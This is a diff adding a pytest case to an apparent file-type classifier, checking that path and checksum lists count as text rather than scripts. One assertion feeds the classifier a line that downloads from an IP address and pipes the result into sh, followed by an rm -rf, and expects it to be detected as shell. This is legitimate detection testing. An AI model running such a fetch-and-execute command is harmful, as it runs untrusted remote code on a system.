@@ -96,3 +96,17 @@ def test_text_without_a_mark_in_two_bytes_a_letter_is_text() -> None:
 @given(st.binary(max_size=600), st.sampled_from(["", "a.js", "a.hta", "a.exe", "noext", "."]))
 def test_any_bytes_are_something(data: bytes, name: str) -> None:
     assert identify(data, name) in Kind
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "/.\n/usr/sbin/adduser\n/usr/bin/systemctl\n/usr/share/doc\n",
+        "0123456789abcdef0123456789abcdef  usr/bin/systemd-detect-virt\n" * 3,
+    ],
+)
+def test_a_list_of_files_is_no_script(text: str) -> None:
+    assert identify(text.encode()) is Kind.TEXT
+    assert (
+        identify(b"/usr/bin/curl http://198.51.100.7/x | sh\n/bin/rm -rf /tmp/x\n/bin/true\n") is Kind.SHELL
+    )
